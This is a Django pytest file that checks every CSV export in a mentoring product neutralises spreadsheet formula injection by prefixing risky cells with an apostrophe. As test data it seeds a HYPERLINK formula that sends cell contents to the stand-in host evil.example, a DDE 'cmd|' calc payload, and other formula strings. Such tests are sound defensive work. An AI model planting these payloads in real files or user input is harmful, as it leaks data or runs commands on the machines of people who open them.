"""No CSV the product writes carries a spreadsheet formula (OWASP "CSV injection").

Text a participant controls (a preferred name, a department, a survey answer, a cell of
an imported file) is written so that a spreadsheet shows it as text: a cell that starts
with ``=``, ``+``, ``-``, ``@``, a tab or a carriage return gets a leading apostrophe.
The test walks every CSV view the code has: a new one that is not walked here fails.
"""

from __future__ import annotations

import ast
import csv
import datetime as dt
import io
import pathlib
from typing import Any

import pytest
import time_machine
from django.test import Client
from django.urls import reverse

from mentoring.csv_export import FORMULA_STARTS, csv_cell, csv_text
from mentoring.models import User
from programs.models import Participant, ParticipantImport
from reports.views import dashboards as views_dashboards
from reports.views import insights as views_insights
from surveys.models import Answer, Question, Survey
from tests.factories.dashboards import dashboard_world
from tests.project_apps import PROJECT_APPS

pytestmark = pytest.mark.django_db

NOW = dt.datetime(2026, 9, 14, 10, 0, tzinfo=dt.UTC)
EVIL = '=HYPERLINK("https://evil.example/?"&B2,"Lucas")'
ROOT = pathlib.Path(__file__).resolve().parents[2]

# Every function that hands out a CSV, and the test below that walks it.
WALKED = {
    ("reports/views/dashboards.py", "_export"),
    ("reports/views/insights.py", "_export"),
    ("pairs/views/pairs.py", "pair_export"),
    ("programs/views/imports.py", "_problems_download"),
    ("surveys/views.py", "survey_export"),
}


def _csv_views() -> set[tuple[str, str]]:
    """(file, function) for every function in the apps that starts a CSV download."""
    found: set[tuple[str, str]] = set()
    for app in PROJECT_APPS:
        for path in (ROOT / app).rglob("*.py"):
            if "migrations" in path.parts or path.name == "csv_export.py":
                continue
            tree = ast.parse(path.read_text())
            for node in tree.body:
                if not isinstance(node, ast.FunctionDef):
                    continue
                for call in ast.walk(node):
                    if (
                        isinstance(call, ast.Call)
                        and isinstance(call.func, ast.Name)
                        and call.func.id in {"csv_download", "csv_response", "HttpResponse"}
                        and (call.func.id != "HttpResponse" or "text/csv" in ast.unparse(call))
                    ):
                        found.add((str(path.relative_to(ROOT)), node.name))
    return found


def _cells(body: bytes) -> list[str]:
    return [cell for row in csv.reader(io.StringIO(body.decode())) for cell in row]


def _is_number(cell: str) -> bool:
    try:
        float(cell)
    except ValueError:
        return False
    return True


def test_cell_rule_quotes_formula_text_and_keeps_numbers() -> None:
    for start in FORMULA_STARTS:
        assert csv_cell(f"{start}1+1") == f"'{start}1+1"
    assert csv_cell(-12) == -12
    assert csv_cell("Lucas") == "Lucas"
    assert csv_cell(None) == ""
    assert csv_text([["-5", 3.5, "a=b"]]) == "'-5,3.5,a=b\r\n"


def test_every_csv_view_is_walked_by_this_test() -> None:
    assert _csv_views() == WALKED


def test_no_csv_the_product_writes_starts_a_cell_with_a_formula(
    client: Client, coordinator: User, hr: User
) -> None:
    with time_machine.travel(NOW, tick=False):
        world = dashboard_world(seed=3, now=NOW, coordinator=coordinator, programs=1, people=30)
        program = world.programs[0]
        # Everything a participant types, made hostile.
        for n, user in enumerate(User.objects.exclude(pk__in=[coordinator.pk, hr.pk])):
            start = FORMULA_STARTS[n % len(FORMULA_STARTS)]
            user.preferred_name = f"{start}cmd|' /C calc'!A{n}"
            user.full_name = EVIL
            user.save(update_fields=["preferred_name", "full_name"])
        Participant.objects.update(full_name=EVIL, department="@SUM(A1:A9)")
        survey = Survey.objects.get(program=program)
        survey.is_anonymous = False
        survey.save(update_fields=["is_anonymous"])
        Question.objects.filter(survey=survey).update(text="+1 question")
        Answer.objects.filter(question__kind=Question.Kind.TEXT).update(value=EVIL)
        failed = ParticipantImport.objects.create(
            program=program,
            created_by=coordinator,
            file_name="people.csv",
            status=ParticipantImport.Status.INVALID,
            problems=[{"row": 2, "column": "=A1", "letter": "B", "value": EVIL, "message": "Bad."}],
        )

        downloads: dict[str, bytes] = {}
        client.force_login(coordinator)
        dashboard = reverse("program_dashboard", args=[program.pk])
        for table in views_dashboards.EXPORTS:
            downloads[f"dashboard {table}"] = client.get(f"{dashboard}?export={table}").content
        downloads["pairs"] = client.get(reverse("pairs:pair_export", args=[program.pk])).content
        downloads["survey"] = client.get(
            reverse("surveys:survey_export", args=[program.pk, survey.pk])
        ).content
        downloads["import problems"] = client.get(
            reverse("programs:import_detail", args=[program.pk, failed.pk]) + "?download=problems"
        ).content
        client.force_login(hr)
        insights_url = reverse("insights_dashboard")
        for table in views_insights.EXPORTS:
            downloads[f"insights {table}"] = client.get(f"{insights_url}?export={table}").content

    seen: dict[str, Any] = {}
    for name, body in downloads.items():
        cells = _cells(body)
        assert cells, name
        for cell in cells:
            assert not cell.startswith(FORMULA_STARTS) or _is_number(cell), (name, cell)
        seen[name] = cells
    # The hostile text did reach the files, neutralised.
    assert "'" + EVIL in seen["survey"]
    assert "'" + EVIL in seen["import problems"]
    assert any(cell.startswith("'=cmd|") for cell in seen["pairs"])
    assert any(cell.startswith("'+cmd|") for cell in seen["pairs"])
    assert "'+1 question" in seen["survey"]
